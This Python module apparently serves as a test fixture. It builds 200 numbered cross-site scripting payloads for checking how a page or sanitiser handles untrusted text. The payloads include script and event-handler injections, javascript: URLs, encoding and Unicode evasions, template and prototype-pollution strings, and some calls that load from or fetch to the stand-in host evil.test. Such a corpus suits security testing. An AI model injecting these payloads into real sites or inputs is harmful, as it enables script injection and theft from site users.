"""Two hundred strings that do something in a page that takes them for markup, script, style or address.

Put together from kinds of attacks and the places where text can end up. Each says its number, so that a failure names
it; each would call `alert`, or load from `evil.test`, if it came to life.
"""

from __future__ import annotations

from itertools import count, islice, product

NUM_STRINGS = 200

_CALLS = ("alert({n})", "window.__xss={n}", "fetch('//evil.test/{n}')", "(0,eval)('alert({n})')")
_ELEMENTS = (
    "<script>{call}</script>",
    "<ScRiPt >{call}</sCrIpT\t>",
    "<script src=//evil.test/{n}.js></script>",
    "<img src=x onerror={call}>",
    "<img src=//evil.test/{n}.png>",
    "<IMG/SRC=x/ONERROR={call}>",
    "<svg onload={call}>",
    "<svg><script>{call}</script></svg>",
    "<svg><animate onbegin={call} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{call}'><text y=20>x</text></a></svg>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror={call}></style></mglyph></math>",
    "<body onload={call}>",
    "<iframe src=javascript:{call}></iframe>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
    "<object data=javascript:{call}></object>",
    "<embed src=//evil.test/{n}.swf>",
    "<video><source onerror={call}></video>",
    "<audio src=x onerror={call}>",
    "<details open ontoggle={call}>x</details>",
    "<input autofocus onfocus={call}>",
    "<select autofocus onfocus={call}></select>",
    "<form action=javascript:{call}><button>x</button></form>",
    "<a href='javascript:{call}'>x</a>",
    "<base href=//evil.test/{n}/>",
    "<link rel=stylesheet href=//evil.test/{n}.css>",
    "<link rel=modulepreload href=//evil.test/{n}.js>",
    "<meta http-equiv=refresh content='0;url=javascript:{call}'>",
    "<style>@import '//evil.test/{n}.css';body{{background:url(//evil.test/{n})}}</style>",
    "<template><script>{call}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'></noscript>",
    "<dialog open onclose={call}>x</dialog>",
    "<div popover id=p{n} onbeforetoggle={call}>x</div><button popovertarget=p{n}>x</button>",
    "<x onclick={call} tabindex=1 id=x{n} onfocus={call}>x</x>",
    "<textarea></textarea><img src=x onerror={call}>",
    "<!--><img src=x onerror={call}>-->",
    "<![CDATA[<img src=x onerror={call}>]]>",
)
_ESCAPES = (
    '"><img src=x onerror={call}>',
    "'><svg onload={call}>",
    '" onmouseover={call} x="',
    "' autofocus onfocus={call} x='",
    "</textarea><script>{call}</script>",
    "</title></style></script><script>{call}</script>",
    "]]></script><script>{call}</script>",
    "`;{call};`",
    "${{{call}}}",
    "{{{{constructor.constructor('{call}')()}}}}",
    "javascript:{call}",
    "data:text/html,<script>{call}</script>",
    "&lt;img src=x onerror={call}&gt;",
    "&#60;script&#62;{call}&#60;/script&#62;",
    "\\u003cscript\\u003e{call}\\u003c/script\\u003e",
    "%3Cscript%3E{call}%3C/script%3E",
    "＜script＞{call}＜/script＞",
    "\u202e<script>{call}</script>\u202c",
    "<scr\u200bipt>{call}</scr\u200bipt>",
    "<<script>script>{call}<</script>/script>",
    "__proto__[x]={call}",
    "[x](javascript:{call}) ![y](//evil.test/{n}.png)",
    "url(//evil.test/{n}); background: expression({call})",
    "*/{call}/*",
    '"}}}},"x":"</script><script>{call}</script>',
    '{n},"=HYPERLINK(""//evil.test/{n}"")"',
)


def make_corpus(num: int = NUM_STRINGS) -> list[str]:
    """The strings: every form with the first call, then further calls until there are enough."""
    numbers = count(1)
    pairs = (pair for call, form in product(_CALLS, (*_ELEMENTS, *_ESCAPES)) for pair in [(call, form)])
    return [_fill(form, call, next(numbers)) for call, form in islice(pairs, num)]


def _fill(form: str, call: str, number: int) -> str:
    return form.format(call=call.format(n=number), n=number)


CORPUS = make_corpus()
assert len(set(CORPUS)) == NUM_STRINGS
